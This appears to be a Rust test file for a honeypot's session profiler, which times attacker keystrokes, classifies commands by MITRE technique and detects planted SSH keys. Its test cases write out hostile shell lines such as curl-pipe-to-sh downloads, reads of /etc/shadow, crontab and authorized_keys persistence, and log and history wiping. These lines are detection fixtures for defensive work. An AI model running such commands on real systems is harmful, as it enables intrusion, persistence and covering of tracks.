//! The fold of facts as a decoy emits them: keys one by one, prompts, commands, their ends.

use super::*;
use crate::event::file::{Artifact, Keeping, Means};
use crate::event::{
    About, CloseCause, ConnectionId, Event, Origin, Service, SessionFact, SessionId,
};
use crate::octets::Binary;
use crate::profile::rows::{KeystrokeRow, ProfileRow};
use crate::profile::{Attacker, Output, Session, fold};
use proptest::prelude::*;
use std::collections::BTreeMap;
use std::sync::Arc;

/// A session that somebody types in.
struct Desk {
    origin: Arc<Origin>,
    attacker: Attacker,
    session: Session,
    out: Output,
    parts: BTreeMap<u32, KeystrokeRow>,
    seq: u64,
    at_us: i64,
}

impl Desk {
    fn new() -> Self {
        let origin = Arc::new(Origin {
            decky: "d1".into(),
            service: Service::Ssh,
            connection: ConnectionId(Uuid::from_u128(1)),
            peer: "192.0.2.1:4711".parse().unwrap(),
            local: "192.0.2.9:22".parse().unwrap(),
        });
        let mut desk = Self {
            attacker: Attacker::new(origin.attacker()),
            origin,
            session: Session::new(SessionId(Uuid::from_u128(2))),
            out: Output::default(),
            parts: BTreeMap::new(),
            seq: 0,
            at_us: 0,
        };
        desk.fact(SessionFact::SessionOpened { channel: 0, user: "root".into() });
        desk
    }

    fn fact(&mut self, fact: SessionFact) {
        // The state is stored between any two facts, and comes back.
        let sid = self.session.sid();
        self.parts.extend(self.session.new_parts().into_iter().map(|part| (part.part, part)));
        let bytes = postcard::to_stdvec(&self.session).unwrap();
        self.session = postcard::from_bytes(&bytes).unwrap();
        self.parts.values().for_each(|part| self.session.restore_part(&part.strokes.0));
        self.seq += 1;
        let about = About::Session { origin: Arc::clone(&self.origin), session: sid, fact };
        let event = Event { at: Timestamp::from_us(self.at_us), about };
        fold(self.seq, &event, &mut self.attacker, Some(&mut self.session), &mut self.out);
    }

    fn wait(&mut self, ms: i64) -> &mut Self {
        self.at_us += ms * 1_000;
        self
    }

    fn prompt(&mut self) -> &mut Self {
        self.fact(SessionFact::Prompt {});
        self
    }

    /// Keys, 100 ms from one to the next.
    fn keys(&mut self, text: &str) -> &mut Self {
        for key in text.chars() {
            self.wait(100);
            self.fact(SessionFact::Input { bytes: key.to_string().into() });
        }
        self
    }

    fn paste(&mut self, text: &str) -> &mut Self {
        self.fact(SessionFact::Input { bytes: text.into() });
        self
    }

    fn command(&mut self, line: &str) -> &mut Self {
        self.fact(SessionFact::Command { line: line.into() });
        self
    }

    fn done(&mut self, status: u32) -> &mut Self {
        self.fact(SessionFact::CommandDone { status });
        self.prompt()
    }

    /// A line that is thought about, typed, entered and run.
    fn line(&mut self, think_ms: i64, line: &str, enter_ms: i64) -> &mut Self {
        self.wait(think_ms - 100).keys(line).wait(enter_ms - 100).keys("\r");
        self.command(line).wait(50).done(0)
    }

    fn close(&mut self) -> ProfileRow {
        self.fact(SessionFact::SessionClosed { cause: CloseCause::Peer, status: Some(0) });
        self.session.profile().unwrap()
    }

    /// The last row of each command.
    fn rows(&self) -> Vec<SessionCommandRow> {
        let mut rows: Vec<SessionCommandRow> = Vec::new();
        for row in &self.out.session_commands {
            match rows.last_mut() {
                Some(last) if last.n == row.n => *last = row.clone(),
                _ => rows.push(row.clone()),
            }
        }
        rows
    }
}

fn json<T: serde::Serialize>(value: &T) -> serde_json::Value {
    serde_json::to_value(value).unwrap()
}

#[test]
fn a_command_has_its_instants_and_its_shape() {
    let mut desk = Desk::new();
    desk.wait(1_000).prompt().line(2_000, "ls -la /tmp", 700);
    desk.line(500, "wget -q http://192.0.2.7/x", 3_000);
    let rows = desk.rows();
    assert_eq!(
        rows[0],
        SessionCommandRow {
            sid: Uuid::from_u128(2),
            n: 1,
            line: "ls -la /tmp".into(),
            started_at: Some("1970-01-01T00:00:03.000000Z".into()),
            entered_at: "1970-01-01T00:00:04.700000Z".into(),
            ended_at: Some("1970-01-01T00:00:04.750000Z".into()),
            exit_status: Some(0),
            think_s: Some(2.0),
            enter_latency_s: Some(0.7),
            sensitive: None,
            technique: Some("T1083".into()),
            flags: Some("-la".into()),
            canonical: Some("ls -a -l /tmp".into()),
        }
    );
    assert_eq!(rows[1].sensitive.as_deref(), Some("download"));
    assert_eq!((rows[1].think_s, rows[1].enter_latency_s), (Some(0.5), Some(3.0)));
    // Seen while it runs, and again when it has ended.
    assert_eq!(desk.out.session_commands.len(), 4);
    let profile = desk.close().commands;
    assert_eq!((profile.cmd_think_p50, profile.cmd_think_p95), (Some(1.25), Some(1.925)));
    assert_eq!(profile.sensitive_pause_ratio, None);
    assert_eq!(json(&profile.history_use), serde_json::json!({}));
    assert_eq!(json(&profile.editors), serde_json::json!([]));
}

#[test]
fn who_hesitates_at_sensitive_commands_has_a_ratio() {
    let mut desk = Desk::new();
    desk.prompt();
    for _ in 0..3 {
        desk.line(400, "id", 600).line(1_500, "rm x", 1_500);
    }
    assert_eq!(desk.close().commands.sensitive_pause_ratio, Some(3.0));
}

#[test]
fn what_was_not_seen_is_not_known() {
    let mut desk = Desk::new();
    // The command of an exec request, which is killed while it runs.
    desk.command("id; uname");
    let row = desk.rows().pop().unwrap();
    assert_eq!((row.think_s, row.started_at, row.exit_status), (None, None, None));
    assert_eq!(row.canonical.as_deref(), Some("id; uname"));
    let profile = desk.close().commands;
    assert_eq!((profile.cmd_think_p50, profile.history_use), (None, None));
    assert_eq!(
        json(&profile.cmd_ngrams),
        serde_json::json!({"1": [["id", 1], ["uname", 1]], "2": [["id uname", 1]], "3": []})
    );
    let profile = Desk::new().close().commands;
    assert_eq!(profile, Columns::default());
}

#[test]
fn pasted_lines_were_not_thought_about() {
    let mut desk = Desk::new();
    desk.prompt().wait(900);
    // As a decoy tells one read of two lines.
    desk.paste("id\r").command("id").done(0).paste("w\r").command("w").done(0);
    let rows = desk.rows();
    let times: Vec<_> = rows.iter().map(|row| (row.think_s, row.enter_latency_s)).collect();
    assert_eq!(times, [(Some(0.9), None), (None, None)]);
    assert!(rows.iter().all(|row| row.started_at.is_some()));
}

#[test]
fn typed_ahead_is_no_thought() {
    let mut desk = Desk::new();
    desk.prompt().line(500, "sleep 5", 200);
    desk.wait(500).keys("sleep 1\r").command("sleep 1").keys("id\r").wait(400).done(0);
    desk.command("id").done(0);
    let row = desk.rows().pop().unwrap();
    assert_eq!((row.line.as_str(), row.think_s, row.started_at), ("id", None, None));
}

#[test]
fn a_command_of_several_lines_begins_with_the_first() {
    let mut desk = Desk::new();
    desk.wait(1_000).prompt().wait(900).keys("for x in 1\r");
    desk.prompt().wait(5_000).keys("do id; done").wait(300).keys("\r");
    desk.command("for x in 1\ndo id; done").done(0);
    let row = desk.rows().pop().unwrap();
    assert_eq!((row.think_s, row.enter_latency_s), (Some(1.0), Some(0.4)));
    // An empty line, or a comment, is no part of what follows.
    desk.wait(700).keys("\r").prompt().line(2_000, "id", 300);
    assert_eq!(desk.rows().pop().unwrap().think_s, Some(2.0));
}

#[test]
fn corrections_are_rows_where_a_line_was_entered() {
    let mut desk = Desk::new();
    desk.prompt().keys("cta\x7f\x7fat /etc/hots\x7fts\x7f\x7fsts\r").command("cat /etc/hosts");
    // The program's own keys are no line's.
    desk.keys("abc\x7f\x7fd\r").done(1);
    desk.keys("abd\x7fc\x03").prompt().keys("sl\x15ls\r").command("ls").done(0);
    let told: Vec<_> = desk
        .out
        .session_typos
        .iter()
        .map(|row| (row.n, row.command, row.typed.as_str(), row.became.as_str(), row.kind))
        .collect();
    assert_eq!(told[0], (1, 1, "cta", "cat", "transposition"));
    assert_eq!(told.last().unwrap(), &(told.len() as u32, 2, "sl", "ls", "transposition"));
    assert!(told.iter().all(|(_, command, ..)| *command <= 2));
}

#[test]
fn editors_and_history_are_counted() {
    let mut desk = Desk::new();
    desk.prompt();
    for _ in 0..2 {
        desk.keys("sudo vim x\r").command("sudo vim x").wait(3_000).keys("\x1b[A:q!\r").done(0);
    }
    desk.keys("nano a; ls\r").command("nano a; ls").wait(9_000).done(0);
    desk.keys("\x1b[A\x1b[A\r").command("ls").done(0);
    desk.keys("\x12l\r").command("ls").done(0);
    desk.keys("cat !$ !!; fc -l; history\r").command("cat a ls; fc -l; history").done(0);
    let profile = desk.close().commands;
    let editors = json(&profile.editors);
    assert_eq!(editors[0]["editor"], "vim");
    assert_eq!(editors[0]["count"], 2);
    assert!((editors[0]["seconds"].as_f64().unwrap() - 7.4).abs() < 1e-9, "{editors}");
    assert_eq!(editors[1], serde_json::json!({"editor": "nano", "count": 1, "seconds": null}));
    assert_eq!(
        json(&profile.history_use),
        serde_json::json!({"!!": 1, "!$": 1, "fc": 1, "history": 1, "^R": 1, "up": 1})
    );
}

#[test]
fn a_line_is_for_what_changes_something() {
    let class = |line: &str| {
        let rule = rule_of(&commands(line.as_bytes()))?;
        Some((rule.class.name(), rule.technique))
    };
    let check = |line: &str, expected| assert_eq!(class(line), expected, "{line}");
    check("cd /tmp; ls; wget http://x/y", Some(("download", "T1105")));
    check("sudo rm -rf /var/tmp/x", Some(("deletion", "T1070.004")));
    check("sudo id", Some(("privilege", "T1548.003")));
    check("busybox wget http://x", Some(("download", "T1105")));
    check("sh -c 'curl http://x | sh'", Some(("download", "T1105")));
    check("for i in 1 2; do echo $(cat /etc/shadow); done", Some(("credentials", "T1003.008")));
    check("echo 'root:x' | chpasswd", Some(("credentials", "T1098")));
    check("(crontab -l; echo '* * * * * x') | crontab -", Some(("persistence", "T1053.003")));
    check("{ echo a; } >> ~/.ssh/authorized_keys", Some(("persistence", "T1098.004")));
    check("echo a | tee -a /root/.ssh/authorized_keys", Some(("persistence", "T1098.004")));
    check("> /var/log/wtmp", Some(("evasion", "T1070.002")));
    check("export HISTFILE=/dev/null", Some(("evasion", "T1562.003")));
    check("id >/dev/null 2>&1", Some(("discovery", "T1033")));
    check("cd /tmp && echo ok", None);
    // No script: its first word.
    check("wget 'http://x", Some(("download", "T1105")));
    check("", None);
}

#[test]
fn what_is_run_by_another_has_its_own_form() {
    let form = |line: &str| canonical_of(&commands(line.as_bytes())).unwrap();
    assert_eq!(form("sudo -u root rm -fr x"), "sudo -u root rm -f -r x");
    assert_eq!(form("nohup env A=1 ls -la"), "nohup env A=1 ls -a -l");
    assert_eq!(form("cd /x && ls -al | grep -v y"), "cd /x; ls -a -l; grep -v y");
}

#[test]
fn a_line_that_the_history_makes_was_thought_about() {
    let mut desk = Desk::new();
    desk.prompt().wait(900).keys("sudo !!\r").command("sudo id").done(0);
    let row = desk.rows().pop().unwrap();
    assert_eq!((row.think_s, row.enter_latency_s), (Some(1.0), Some(0.1)));
}

const KEY: &str = "AAAAC3NzaC1lZDI1NTE5AAAAIAEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEB";

#[test]
fn planted_keys_are_found_in_lines() {
    for line in [
        format!("echo 'ssh-ed25519 {KEY} me@home' >> ~/.ssh/authorized_keys"),
        format!("echo \"ssh-ed25519 {KEY} me@home\" > $HOME/.ssh/authorized_keys && chmod 600 x"),
        format!("cat > /root/.ssh/authorized_keys << EOF\n# x\nssh-ed25519 {KEY} me@home\nEOF"),
        format!(
            "cd .ssh; echo ssh-ed25519 {KEY} me@home | sudo tee -a authorized_keys > /dev/null"
        ),
        format!("(echo -e '\\nssh-ed25519 {KEY} me@home\\n') >> .ssh/authorized_keys2"),
        format!("cat <<< 'ssh-ed25519 {KEY} me@home' >> .ssh/authorized_keys"),
        format!("sh -c \"echo ssh-ed25519 {KEY} me@home >> .ssh/authorized_keys\""),
    ] {
        let mut desk = Desk::new();
        desk.command(&line);
        let keys = &desk.out.ssh_keys;
        assert_eq!(keys.len(), 1, "{line}");
        assert_eq!(keys[0].comment.as_deref(), Some("me@home"), "{line}");
        assert_eq!((keys[0].source, keys[0].key_type.as_str()), ("planted_shell", "ssh-ed25519"));
    }
    for line in [format!("echo ssh-ed25519 {KEY} a"), format!("echo ssh-ed25519 {KEY} a > b")] {
        let mut desk = Desk::new();
        desk.command(&line);
        assert_eq!(desk.out.ssh_keys, []);
    }
}

#[test]
fn files_that_came_are_rows_and_give_away_their_keys() {
    let mut desk = Desk::new();
    let line = format!("ssh-ed25519 {KEY} me@home");
    desk.fact(SessionFact::Artifact(Box::new(Artifact {
        path: ".ssh/authorized_keys".into(),
        means: Means::Sftp,
        size: 90,
        held: 90,
        sha256: Some(Binary(vec![7; 32])),
        head: Binary(line.as_bytes().to_vec()),
        keeping: Keeping::Kept,
        keys: vec![line.into()],
    })));
    desk.fact(SessionFact::Wish { url: "http://192.0.2.7/x".into(), tool: "wget".into() });
    assert_eq!(desk.out.ssh_keys[0].source, "planted_sftp");
    let rows: Vec<_> = desk
        .out
        .artifacts
        .iter()
        .map(|row| (row.sha256.is_some(), row.size, row.mime, row.origin.as_str(), row.keeping))
        .collect();
    assert_eq!(
        rows,
        [
            (true, Some(90), Some("text/plain"), "sftp", "kept"),
            (false, None, None, "wget", "wished")
        ]
    );
}

#[test]
fn the_state_stays_small_however_long_it_goes_on() {
    let mut session = Commands::default();
    let moment =
        |at_us| Moment { sid: Uuid::nil(), opened: Timestamp(0), at: Timestamp::from_us(at_us) };
    for n in 0..5_000 {
        let mut told = Told::default();
        session.prompted(moment(n * 1_000));
        session.typed(moment(n * 1_000 + 10), format!("c{n}\r").as_bytes(), &mut told);
        session.command(moment(n * 1_000 + 10), format!("c{n} -a; vi").as_bytes(), &mut told);
        session.done(moment(n * 1_000 + 20), 0, &mut told);
        assert_eq!(told.rows.len(), 2);
    }
    let bytes = postcard::to_stdvec(&session).unwrap().len();
    assert!(bytes < 8 << 10, "{bytes}");
    let ngrams = json(&session.columns().cmd_ngrams);
    assert_eq!(ngrams["1"].as_array().unwrap().len(), limits::NGRAMS);
}

proptest! {
    #[test]
    fn any_line_has_a_row(line: Vec<u8>, typed: Vec<u8>) {
        let mut commands = Commands::default();
        let moment = Moment { sid: Uuid::nil(), opened: Timestamp(0), at: Timestamp(0) };
        let mut told = Told::default();
        commands.prompted(moment);
        commands.typed(moment, &typed, &mut told);
        commands.command(moment, &line, &mut told);
        prop_assert_eq!(told.rows.len(), 1);
        commands.columns();
    }

    #[test]
    fn where_reads_are_cut_changes_no_correction(typed in "[a-d \\x7f\\x17\\x15\\x1b\\[A\r]{0,40}", at: u8) {
        let run = |parts: &[&[u8]]| {
            let mut commands = Commands::default();
            let moment = Moment { sid: Uuid::nil(), opened: Timestamp(0), at: Timestamp(0) };
            let mut told = Told::default();
            commands.prompted(moment);
            parts.iter().for_each(|part| commands.typed(moment, part, &mut told));
            (told.typos, commands)
        };
        let (one, other) = typed.as_bytes().split_at(usize::from(at) % (typed.len() + 1));
        prop_assert_eq!(run(&[typed.as_bytes()]), run(&[one, other]));
    }
}
